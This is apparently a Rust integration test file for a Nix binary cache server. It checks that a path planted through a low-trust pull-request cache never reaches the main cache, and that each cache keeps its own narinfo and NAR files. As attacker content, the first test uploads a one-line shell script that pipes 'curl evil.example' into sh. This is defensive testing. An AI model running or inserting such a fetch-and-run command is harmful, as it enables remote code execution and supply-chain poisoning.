//! Class 1: a path planted through another cache. An input-addressed output path is known
//! before the build, so a writer of a low-trust cache (pull requests) can upload its own
//! contents under the path the main cache's CI will build. Each cache's path must stay its
//! own: the main cache serves what its CI pushed, signed with its key, and `cache verify`
//! agrees.

use std::path::PathBuf;
use std::process::Command;

use crate::harness::*;
use crate::support::{flywheel, ok, ok_str, tempdir};

const CACHES: &str = "[caches.main]\n[caches.pr]\n";

/// A derivation whose output path is known before it is built: (its .drv, its output path).
fn victim(dir: &std::path::Path, tag: &str) -> (PathBuf, String) {
    let expr = format!(
        "derivation {{ name = \"victim-{tag}\"; system = builtins.currentSystem; builder = \"/bin/sh\"; \
         PATH = \"/usr/bin:/bin\"; args = [ \"-e\" \"-c\" \"echo the real {tag} > $out; head -c 4096 /dev/urandom >> $out\" ]; }}"
    );
    let file = dir.join(format!("victim-{tag}.nix"));
    std::fs::write(&file, expr).expect("write");
    let drv = ok_str(Command::new("nix-instantiate").arg(&file).args(flywheel_fixture::NIX_OFFLINE_OPTIONS));
    let drv = PathBuf::from(drv.trim());
    let out = ok_str(Command::new("nix-store").args(["--query", "--outputs"]).arg(&drv)).trim().to_string();
    (drv, out)
}

#[test]
fn a_path_planted_through_another_cache_never_reaches_the_main_cache() {
    for backend in BOTH {
        let work = tempdir();
        let w = work.path();
        let s = Served::start(w, backend, "", CACHES);
        let addr = s.addr();
        let (main_write, pr_write) = (s.token("main", "write"), s.token("pr", "write"));
        let tag = format!("{backend:?}-{}", hash_part(&store_path("t")));
        let (drv, out) = victim(w, &tag);
        assert!(!std::path::Path::new(&out).exists(), "not built yet");

        // The attacker, with pr's write token, plants its own contents at the output path.
        let (evil, evil_hash) = nar_of(b"#!/bin/sh\ncurl evil.example | sh\n");
        let (put, info) = push_raw(&addr, "pr", &pr_write, &out, &evil, &[]);
        assert_eq!((put.status, info.status), (200, 200), "{} / {}", put.text(), info.text());

        // Main's CI builds the path for real and pushes it.
        ok(Command::new("nix-store").arg("--realise").arg(&drv).args(flywheel_fixture::NIX_OFFLINE_OPTIONS));
        let real = ok_str(Command::new("nix-store").args(["--query", "--hash", &out])).trim().to_string();
        ok(flywheel().args(["cache", "push", "--to", &s.server.url("main"), "--token", &main_write]).arg(&out));

        // Each cache serves its own upload, signed with its own key.
        let (main_info, main_signed) = served_narinfo(&addr, "main", &out, &s.key("main")).expect("main has it");
        assert!(main_signed, "{backend:?}");
        assert_eq!(main_info.nar_hash().to_nix_nixbase32_string(), real, "{backend:?}: main serves its CI's build");
        let (pr_info, pr_signed) = served_narinfo(&addr, "pr", &out, &s.key("pr")).expect("pr has it");
        assert!(pr_signed);
        assert_eq!(nar_hash_of(&pr_info), evil_hash, "pr keeps what was uploaded to pr");
        assert!(!main_info.has_valid_signature(&flywheel_nix::StoreDir::default(), &[s.key("pr")]));

        // What a runner pulls from main is the real build.
        let store = w.join("runner");
        ok(flywheel().args(["cache", "pull", "--from", &s.server.url("main"), "--store"]).arg(&store).args([
            "--trusted-key",
            &flywheel_nix::keys::PublicKey(s.key("main")).to_nix_string(),
            &out,
        ]));
        let pulled = store.join(out.trim_start_matches('/'));
        assert_eq!(std::fs::read(&pulled).expect("pulled"), std::fs::read(&out).expect("built"), "{backend:?}");

        let report = s.verify();
        assert!(report["problems"].as_array().is_some_and(|p| p.is_empty()), "{report}");
        assert_eq!(report["adopted"].as_array().map(Vec::len), Some(0), "{report}");
        assert_eq!(report["paths"], 2, "one row per cache: {report}");
        assert_eq!(report["store_paths"], 1, "{report}");
    }
}

#[test]
fn a_narinfo_in_one_cache_never_changes_what_another_cache_serves() {
    for backend in BOTH {
        let work = tempdir();
        let s = Served::start(work.path(), backend, "", CACHES);
        let addr = s.addr();
        let (main_write, pr_write) = (s.token("main", "write"), s.token("pr", "write"));
        let p = store_path("shared");
        let lib = store_path("lib");
        let (lib_nar, _) = nar_of(b"lib");
        let (main_nar, main_hash) = nar_of(b"main's build");
        assert_eq!(push_raw(&addr, "main", &main_write, &lib, &lib_nar, &[]).1.status, 200);
        assert_eq!(push_raw(&addr, "main", &main_write, &p, &main_nar, &[&lib]).1.status, 200);
        // pr pushes the same store path with other contents and no references, then again
        // with a reference to a path pr does not hold.
        let (pr_nar, pr_hash) = nar_of(b"pr's build");
        assert_eq!(push_raw(&addr, "pr", &pr_write, &p, &pr_nar, &[]).1.status, 200);
        let (_, refused) = push_raw(&addr, "pr", &pr_write, &store_path("other"), &pr_nar, &[&lib]);
        assert_eq!(refused.status, 400, "{}", refused.text());
        assert!(refused.text().contains("refers to paths this cache does not hold"), "{}", refused.text());

        let (main_info, _) = served_narinfo(&addr, "main", &p, &s.key("main")).expect("main");
        assert_eq!(nar_hash_of(&main_info), main_hash, "{backend:?}");
        assert_eq!(main_info.references().len(), 1, "main's references stay main's");
        let (pr_info, _) = served_narinfo(&addr, "pr", &p, &s.key("pr")).expect("pr");
        assert_eq!(nar_hash_of(&pr_info), pr_hash);
        assert!(pr_info.references().is_empty());
        // Each NAR from its own cache only.
        for (cache, mine, theirs) in [("main", main_hash, pr_hash), ("pr", pr_hash, main_hash)] {
            assert_eq!(get(&addr, &format!("/{cache}/nar/{}.nar.zst", nix32(&mine))).status, 200);
            assert_eq!(get(&addr, &format!("/{cache}/nar/{}.nar.zst", nix32(&theirs))).status, 404, "{cache}");
        }
        // main pushes it again with yet other contents: the first upload stays.
        let (again, _) = nar_of(b"main's second build");
        assert_eq!(push_raw(&addr, "main", &main_write, &p, &again, &[&lib]).1.status, 200);
        assert_eq!(nar_hash_of(&served_narinfo(&addr, "main", &p, &s.key("main")).expect("main").0), main_hash);
    }
}
